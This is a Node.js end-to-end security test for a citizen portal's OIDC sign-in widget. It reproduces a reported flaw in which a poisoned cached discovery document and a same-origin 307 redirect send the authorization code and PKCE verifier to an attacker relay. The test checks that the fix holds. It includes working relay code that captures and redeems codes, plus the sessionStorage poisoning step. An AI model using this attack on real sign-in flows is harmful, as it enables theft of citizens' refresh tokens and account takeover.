import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { once } from 'node:events';
import { test } from 'node:test';
import { useWorld, signInAtProvider, watchPage } from './browser.mjs';

/*
 * Review of issue 21 / f528e44: a kept discovery document counts only when
 * every endpoint is on the provider's origin. Where the provider shares the
 * site's origin – this e2e world's own layout (`<origin>/oidc`), a Keycloak
 * behind the city's reverse proxy at `/auth` – that origin is the site's,
 * and any URL of it qualifies. A page of the site that ran in this tab before
 * plants a token endpoint at an address of the site that redirects with 307
 * (an „external link“ or tracking redirect; here played by a route). The way
 * back's own code exchange follows redirects (oauth4webapi's requests do
 * not: redirect 'manual'), so the code with its PKCE verifier goes to the
 * attacker's relay, which redeems it and answers like the provider: the
 * citizen is signed in as usual, the attacker holds the refresh token.
 */

const ctx = useWorld({ scenario: 'returning' });

async function startRelay(origin) {
  const relay = { posted: [], tokens: [], headers: [] };
  const server = createServer(async (req, res) => {
    const cors = { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*', 'Access-Control-Allow-Methods': 'POST, GET' };
    relay.headers.push({ path: req.url, method: req.method, authorization: req.headers.authorization ?? null });
    if (req.method === 'OPTIONS') return void res.writeHead(204, cors).end();
    const chunks = [];
    for await (const chunk of req) chunks.push(chunk);
    const body = Buffer.concat(chunks).toString('utf8');
    if (req.url.startsWith('/token')) {
      relay.posted.push(Object.fromEntries(new URLSearchParams(body)));
      const answer = await fetch(`${origin}/oidc/token`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        body,
      });
      const text = await answer.text();
      relay.tokens.push(JSON.parse(text));
      return void res.writeHead(answer.status, { ...cors, 'Content-Type': 'application/json' }).end(text);
    }
    res.writeHead(404, cors).end();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  relay.origin = `http://127.0.0.1:${server.address().port}`;
  relay.close = () => new Promise((resolve) => (server.closeAllConnections(), server.close(resolve)));
  return relay;
}

test('review: with the provider on the site’s origin, a planted token endpoint on that origin that redirects (307) takes the code and verifier, and the tokens', async () => {
  const { origin } = ctx.world;
  const relay = await startRelay(origin);
  const context = await ctx.browser.newContext();
  // A URL of the site that redirects wherever `to` says, keeping the method (307) – the only thing the attacker needs on the origin.
  await context.route(`${origin}/go?**`, (route) => {
    const to = new URL(route.request().url()).searchParams.get('to');
    return route.fulfill({ status: 307, headers: { Location: to } });
  });
  const page = await context.newPage();
  // The attacker's page of the same site, earlier in this tab: it keeps a „discovery document“ for the widget.
  await page.goto(`${origin}/pages/news-x`);
  const authority = `${origin}/oidc`;
  await page.evaluate(
    async ({ issuer, relayOrigin, siteOrigin }) => {
      const metadata = await (await fetch(`${issuer}/.well-known/openid-configuration`)).json();
      metadata.token_endpoint = `${siteOrigin}/go?to=${encodeURIComponent(`${relayOrigin}/token`)}`;
      sessionStorage.setItem(`buergerportal-widgets.metadata:${issuer}`, JSON.stringify(metadata));
    },
    { issuer: authority, relayOrigin: relay.origin, siteOrigin: origin },
  );
  const problems = watchPage(page);
  await page.goto(`${origin}/pages/login.html`);
  await page.getByRole('button', { name: 'Zum Servicekonto.NRW' }).click();
  await signInAtProvider(page, 'Erika Mustermann');
  await page
    .getByText('Angemeldet als Erika Mustermann')
    .waitFor({ timeout: 10_000 })
    .catch(() => undefined);
  const signedIn = await page.getByText('Angemeldet als Erika Mustermann').isVisible();
  await context.close();
  await relay.close();
  assert.deepEqual(
    relay.posted.map((body) => Object.keys(body).sort()),
    [],
    `the attacker's relay received ${JSON.stringify(relay.posted)} and the tokens ${JSON.stringify(relay.tokens.map((t) => Object.keys(t)))}; the citizen ${signedIn ? 'noticed nothing (signed in)' : 'was not signed in'}; page problems: ${JSON.stringify(problems)}`,
  );
});
